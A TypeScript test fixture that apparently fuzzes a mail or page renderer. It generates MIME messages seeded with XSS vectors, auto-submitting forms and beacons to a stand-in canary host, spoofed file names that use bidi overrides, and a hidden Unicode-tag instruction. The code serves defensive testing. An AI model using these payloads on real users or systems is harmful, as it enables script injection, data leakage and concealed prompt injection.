/**
 * Content that runs, loads, submits or moves something where a page shows it as it came. What ran writes `canary` to the console or
 * into the page; what left asks the host `canaryHost`.
 */
import type { Random } from '../random.ts';
import { octets } from './hostile-text.ts';

export const canary = 'parleyCanary';
export const canaryHost = 'canary.example';

const url = (name: string) => `https://${canaryHost}/${name}`;
const run = `console.error('${canary}');top.${canary}=1`;

/** Active html, of mail as of web pages. */
const elements = [
  `<script>${run};alert('${canary}');top.location='${url('script')}'</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${url('pixel.gif')}" srcset="${url('large.gif')} 2x" style="width:9000px">`,
  `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><style><img src=x onerror="${run}"></style><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<meta http-equiv="refresh" content="0;url=${url('refresh')}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *">`,
  `<base href="${url('')}" target="_top">`,
  `<form action="${url('form')}" target="_top"><input autofocus onfocus="this.form.submit();${run}"><button>Pay</button></form>`,
  `<iframe src="${url('frame')}" srcdoc="<script>${run}</script>" onload="${run}"></iframe>`,
  `<object data="${url('object')}"></object><embed src="${url('embed')}">`,
  `<link rel="stylesheet" href="${url('sheet.css')}"><link rel="prefetch" href="${url('prefetch')}"><link rel="preconnect" href="${url('')}">`,
  `<style>@import url(${url('import.css')});@font-face{font-family:a;src:url(${url('font')})}*{font-family:a!important;background:url(${url('all.gif')})}</style>`,
  `<style>html,body,div{position:fixed!important;inset:0;width:99999px!important;height:99999px!important;z-index:2147483647}</style>`,
  `<div style="position:fixed;top:-9000px;left:-9000px;width:99999px;height:99999px;background:url(${url('div.gif')})">over</div>`,
  `<video src="${url('video')}" poster="${url('poster')}" autoplay onerror="${run}"></video><audio src="${url('audio')}" autoplay></audio>`,
  `<input type=image src="${url('input.gif')}" onerror="${run}"><table background="${url('table.gif')}"><tr><td>x</table>`,
  `<a href="javascript:${run}" target="_top" ping="${url('ping')}">Open your invoice</a>`,
  `<a href="data:text/html,<script>${run}</script>" target="_blank">Open your invoice</a>`,
  `<template shadowrootmode="open"><script>${run}</script><slot></slot></template>`,
  `<details open ontoggle="${run}"><summary>x</summary></details><marquee onstart="${run}">x</marquee>`,
  `<body onload="${run}" onpageshow="${run}" background="${url('body.gif')}">`,
  `</iframe></div></article></main><script>${run}</script><div id="root">`,
  `<table width="9000"><tr>${'<td style="min-width:900px">wide'.repeat(40)}</tr></table>`,
  `<p>${'W'.repeat(5_000)}</p><pre>${'x'.repeat(5_000)}</pre>`,
] as const;

/** Text for names, subjects, file names and bodies. */
const texts = [
  `"><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `javascript:${run}`,
  `</title></textarea></style><svg onload=${run}>`,
  '{{constructor.constructor("return top")()}}',
  octets('Invoice \u202egpj.exe'),
  octets('\u2067Invoice\u2066 fdp\u2069.exe'),
  octets('pay\u200bpal\u200d\ufeff support\u00ad'),
  octets(`Hello${'\u034f\u200c\u00a0'.repeat(300)}`),
  octets(`Dear${'\u202e\u200f'.repeat(400)}`),
  octets(`Z${'\u0300\u0489'.repeat(300)}algo`),
  octets(
    `Hi${[...'approve the draft'].map((one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0))).join('')}`,
  ),
  'W'.repeat(900),
  octets('\ufdfd'.repeat(300)),
] as const;

const several = (random: Random, from: readonly [string, ...string[]], most: number) =>
  Array.from({ length: 1 + random.below(most) }, () => random.pick(from)).join('');

/** The message with active elements behind some tags of its html; as it was where it has none. */
export function armed(message: string, random: Random): string {
  const tags = [...message.matchAll(/<(?:body|div|p|td|tr|br|span|b|a)\b[^<>]{0,200}>/gi)];
  const ends = tags.map((tag) => tag.index + tag[0].length);
  const picked = new Set(Array.from({ length: 1 + random.below(3) }, () => ends[random.below(ends.length)]));
  return [...picked]
    .filter((at) => at !== undefined)
    .toSorted((a, b) => b - a)
    .reduce((text, at) => text.slice(0, at) + several(random, elements, 3) + text.slice(at), message);
}

/** A whole message of active content. A string of octets. @param htmlOctets least length of its html */
export function activeMessage(random: Random, htmlOctets = 0): string {
  const text = () => random.pick(texts);
  const quoted = (value: string) => `"${value.replace(/["\\]/g, '\\$&').slice(0, 900)}"`;
  const html = several(random, elements, 12);
  const filler = '<table><tr><td>row<td><b>cell</b></table>\r\n';
  const long = filler.repeat(Math.ceil(Math.max(0, htmlOctets - html.length) / filler.length));
  const part = (type: string, body: string, more = '') =>
    `--x\r\nContent-Type: ${type}; charset=utf-8\r\n${more}\r\n${lines(body)}\r\n`;
  return [
    `From: ${quoted(text())} <mallory@example.test>\r\nTo: ${quoted(text())} <support@example.test>\r\n`,
    `Subject: ${text()} ${text()}\r\nReply-To: ${quoted(text())} <reply@example.test>\r\n`,
    'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n',
    '--x\r\nContent-Type: multipart/alternative; boundary=y\r\n\r\n',
    part('text/plain', `${text()}\r\n\r\n${text()}\r\n> ${text()}\r\n-- \r\n${text()}`).replace('--x', '--y'),
    part('text/html', html + long + several(random, elements, 3)).replace('--x', '--y'),
    '--y--\r\n',
    part('text/html', html, `Content-Disposition: attachment; filename=${quoted(`${text()}.html`)}\r\n`),
    part('text/plain', text(), `Content-Disposition: attachment; filename=${quoted(`${text()}.txt`)}\r\n`),
    part(
      'image/svg+xml',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
      'Content-Disposition: inline; filename=a.svg\r\n',
    ),
    '--x--\r\n',
  ].join('');
}

/** Lines of at most 900 octets, broken behind tags and at spaces (RFC 5322 allows 998). */
const lines = (text: string) => text.replace(/(.{1,900})(?:(?<=>)|(?=[ ]))/g, '$1\r\n');
